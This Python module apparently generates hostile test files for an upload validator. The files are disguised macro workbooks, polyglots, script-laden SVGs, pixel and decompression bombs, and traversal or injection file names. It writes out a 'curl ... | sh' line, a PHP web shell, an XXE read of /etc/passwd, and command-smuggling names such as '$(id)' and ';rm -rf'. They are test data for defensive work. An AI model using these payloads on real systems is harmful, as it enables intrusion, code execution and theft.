"""Files that are something else than they say: macro books, texts, programs, polyglots, drawings, pixels, names."""

import gzip
import io
import struct
import zlib
from collections.abc import Iterator
from random import Random

from PIL import Image

from trials.hostile.books import DECLARATION, pack, roster, with_part
from trials.hostile.case import EVERYWHERE, STORED, Case

MACRO = "application/vnd.ms-excel.{}.macroEnabled.main+xml"
SCRIPT = b"<script>fetch('/accounts/')</script>"


def macros(random: Random) -> Iterator[Case]:
    for part in (
        "xl/vbaProject.bin",
        "xl/VBAPROJECT.BIN",
        "vbaProject.bin",
        "xl/vbaData.xml",
        "docProps/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "xl/macrosheets/intlsheet1.xml",
        "xl/activeX/activeX1.bin",
        "xl/activeX/activeX1.xml",
    ):
        yield Case("macro book", part, with_part(part, random.randbytes(2000)))
    types = str(roster().all_parts()["[Content_Types].xml"])
    plain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    for kind in ("sheet", "template", "addin"):
        changed = types.replace(plain, MACRO.format(kind))
        yield Case(
            "macro book", f"type {kind}", with_part("[Content_Types].xml", changed), random.choice(("a.xlsx", "a.xlsm"))
        )

    sheet = types.replace(
        "</Types>", '<Override PartName="/xl/m.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    )
    yield Case("macro book", "old macro sheet by type", with_part("[Content_Types].xml", sheet))
    word: dict[str, bytes | str] = {
        "[Content_Types].xml": f"{DECLARATION}<Types/>",
        "word/document.xml": "<w:document/>",
    }
    yield Case("macro book", "Word with macros", pack(word | {"word/vbaProject.bin": b"x"}), "通知.docx")
    enabled = (
        f'{DECLARATION}<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    )
    yield Case("macro book", "Word by type", pack(word | {"[Content_Types].xml": enabled}), "通知.docx")


def renamed(random: Random) -> Iterator[Case]:
    table = "姓名,公民身份号码\n张三,=1+1\n"
    for name, data in (
        ("csv", table.encode()),
        ("csv in gbk", table.encode("gbk")),
        ("csv in utf-16", table.encode("utf-16")),
        ("tsv", table.replace(",", "\t").encode()),
        ("html", b"<html><body><table><tr><td>1</td></tr></table>" + SCRIPT),
        ("html after blanks", b" " * 3000 + b"<html>" + SCRIPT),
        ("mht", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n"),
        ("xml of 2003", b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>'),
        ("json", b'{"a": 1}'),
        ("rtf", b"{\\rtf1\\ansi x}"),
        ("program", b"MZ\x90\x00" + random.randbytes(4000)),
        ("program of Linux", b"\x7fELF\x02\x01\x01" + random.randbytes(4000)),
        ("shell", b"#!/bin/sh\ncurl http://127.0.0.1:9/ | sh\n"),
        ("php", b"<?php system($_GET['c']); ?>"),
        ("gif", b"GIF89a" + random.randbytes(300)),
        ("mail", b"From: a@b\nSubject: x\n\n"),
        ("database", b"SQLite format 3\x00" + random.randbytes(500)),
        ("gzip", gzip.compress(table.encode())),
        ("7z", b"7z\xbc\xaf\x27\x1c" + random.randbytes(500)),
        ("rar", b"Rar!\x1a\x07\x01\x00" + random.randbytes(500)),
        ("nothing", b""),
        ("noise", random.randbytes(5000)),
        ("class", b"\xca\xfe\xba\xbe" + random.randbytes(300)),
        ("link of Windows", b"L\x00\x00\x00\x01\x14\x02\x00" + random.randbytes(300)),
    ):
        yield Case("renamed", name, data, random.choice(("名册.xlsx", "名册.png", "名册.pdf", "名册.jpg.xlsx")))
    jar = {"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}
    yield Case("renamed", "jar", pack(jar))
    yield Case("renamed", "apk", pack({"AndroidManifest.xml": b"x", "classes.dex": b"dex"}))
    yield Case(
        "renamed", "ods", pack({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<x/>"})
    )
    yield Case("renamed", "pdf", pdf(b""), inert=STORED)
    yield Case(
        "renamed", "pdf with a script", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), inert=STORED
    )
    yield Case("renamed", "pdf that starts a program", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), inert=STORED)


def pdf(more: bytes) -> bytes:
    return (
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog "
        + more
        + b" >>\nendobj\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"
    )


def picture(kind: str, size: tuple[int, int] = (32, 32), **options) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", size, "red").save(target, kind, **options)
    return target.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int, height: int, pixels: bytes, more: bytes = b"", depth: int = 8, colour: int = 2) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + more + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")
    )


def polyglots(random: Random) -> Iterator[Case]:
    """One file, two meanings. A picture that is one stays a picture: kept under its own kind, never shown inline."""
    red, photo, book = picture("PNG"), picture("JPEG"), roster().pack()
    for name, data in (
        ("png and web page", red + b"<html>" + SCRIPT),
        ("jpg and web page", photo + b"<html>" + SCRIPT),
        ("png and zip", red + book),
        ("jpg and zip", photo + book),
        ("jpg and program", photo + b"MZ" + random.randbytes(900)),
        ("pdf and zip", pdf(b"") + book[:2000] + b"\nstartxref\n%%EOF"),
        ("pdf and web page", pdf(b"").replace(b"\n", b"\n<html>" + SCRIPT, 1)),
        ("png with php", red[:33] + chunk(b"tEXt", b"c\0<?php system('id') ?>") + red[33:]),
        ("png with a web page inside", red[:33] + chunk(b"iTXt", b"c\0\0\0\0\0<html>" + SCRIPT) + red[33:]),
        ("jpg with a script as comment", picture("JPEG", comment=SCRIPT)),
        (
            "jpg with exif of html",
            photo[:2] + b"\xff\xe1\x00\x30Exif\0\0<img src=x onerror=alert(1)>".ljust(50, b" ") + photo[2:],
        ),
    ):
        yield Case("polyglot", name, data, random.choice(("照片.png", "照片.jpg", "照片.html", "照片.svg")), STORED)
    for name, data in (
        ("gif and script", b"GIF89a/*" + random.randbytes(60) + b"*/=1;alert(1)//"),
        ("bmp and script", b"BM/*" + SCRIPT),
        ("zip after a web page", b"<html>" + SCRIPT + book),
        ("zip after a program", b"MZ" + random.randbytes(400) + book),
        ("workbook in a word's clothes", pack({"word/document.xml": "<x/>", "mimetype": "image/png"})),
    ):
        yield Case("polyglot", name, data, "照片.png")


def drawings(random: Random) -> Iterator[Case]:
    start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    for name, text in (
        ("script", start + "><script>alert(1)</script></svg>"),
        ("onload", start + 'onload="alert(1)"/>'),
        ("foreign object", start + "><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>"),
        ("picture from elsewhere", start + '><image xlink:href="http://127.0.0.1:9/x.png"/></svg>'),
        ("link", start + '><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
        ("style", start + "><style>@import 'http://127.0.0.1:9/x.css'</style></svg>"),
        ("entity", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + start + ">&x;</svg>"),
        ("animation", start + '><animate onbegin="alert(1)"/></svg>'),
        ("use of itself", start + '><g id="a"><use xlink:href="#a"/></g></svg>'),
        ("declared xml", DECLARATION + start + "/>"),
    ):
        yield Case("svg", name, text.encode(), random.choice(("图.svg", "图.png", "图.jpg")))
    yield Case("svg", "sixteen-bit", (start + "><script>alert(1)</script></svg>").encode("utf-16"), "图.png")
    yield Case("svg", "compressed", gzip.compress((start + "/>").encode()), "图.svgz")


def pixels(random: Random) -> Iterator[Case]:
    for side in (7_000, 20_000, 60_000, 2**31 - 1):
        yield Case("pixel bomb", f"png of {side}²", png(side, side, bytes(1000)), "照片.png")
    yield Case(
        "pixel bomb",
        "png of 49 million pixels, all there",
        png(7_000, 7_000, bytes(7_000 * 7_001), colour=0),
        "照片.png",
    )
    yield Case("pixel bomb", "png one pixel high", png(2_000_000, 1, bytes(1000)), "照片.png")
    yield Case("pixel bomb", "png of no pixels", png(0, 0, b""), "照片.png")
    yield Case("pixel bomb", "png with more than it says", png(8, 8, bytes(200_000_000)), "照片.png", STORED)
    for name in (b"iCCP", b"zTXt", b"iTXt"):
        body = b"x\0" + (b"\1\0\0\0" if name == b"iTXt" else b"\0") + zlib.compress(bytes(150_000_000))
        yield Case(
            "pixel bomb",
            f"compressed text in {name.decode()}",
            png(8, 8, bytes(8 * 25), chunk(name, body)),
            "照片.png",
            STORED,
        )
    photo = picture("JPEG", (64, 64))
    at = photo.index(b"\xff\xc0")
    for height, width in ((65_500, 65_500), (40_000, 40_000), (0, 0), (65_535, 1)):
        data = photo[: at + 5] + struct.pack(">HH", height, width) + photo[at + 9 :]
        yield Case(
            "pixel bomb", f"jpg of {width} × {height}", data, "照片.jpg", STORED if height == 65_535 else frozenset()
        )
    scans = photo[:-2] + photo[photo.index(b"\xff\xda") : -2] * 3000 + photo[-2:]
    yield Case("pixel bomb", "jpg of 3,000 scans", scans, "照片.jpg", STORED)
    for cut in (0.2, 0.5, 0.7):
        whole = picture("PNG", (300, 200))
        yield Case("pixel bomb", f"png cut at {cut}", whole[: int(len(whole) * cut)], "照片.png")


def names(random: Random) -> Iterator[Case]:
    """Sound files under names that climb, hide, end early or act."""
    token = f"{random.getrandbits(40):010x}"
    book, red = roster().pack(), picture("PNG")
    for name in (
        f"../../../../evil-{token}.xlsx",
        f"..\\..\\evil-{token}.xlsx",
        f"/etc/cron.d/evil-{token}",
        f"C:\\evil-{token}.xlsx",
        f"\\\\127.0.0.1\\c$\\evil-{token}.xlsx",
        f"evil-{token}.xlsx\0.png",
        f"\0evil-{token}",
        f"evil-{token}\u202exslx.exe",
        f"evil-{token}\r\nSet-Cookie: a=b.xlsx",
        f'evil-{token}".xlsx; x="',
        f"<img src=x onerror=alert(1)>{token}.xlsx",
        f"=HYPERLINK({token}).xlsx",
        f"%2e%2e%2f%2e%2e%2fevil-{token}.xlsx",
        f"．．／evil-{token}.xlsx",
        "CON.xlsx",
        "NUL",
        ".htaccess",
        "." * 200,
        " ",
        "长" * 400 + ".xlsx",
        f"evil-{token}.xlsx::$DATA",
        f"evil-{token};rm -rf.xlsx",
        "$(id).xlsx",
        "~root.xlsx",
        f"evil-{token}.php.xlsx",
        "\u200b\u200e.xlsx",
        "-rf.xlsx",
        "|id.xlsx",
    ):
        yield Case("file name", repr(name)[:40], random.choice((book, red)), name, EVERYWHERE)


def cases(random: Random) -> Iterator[Case]:
    for family in (macros, renamed, polyglots, drawings, pixels, names):
        yield from family(random)
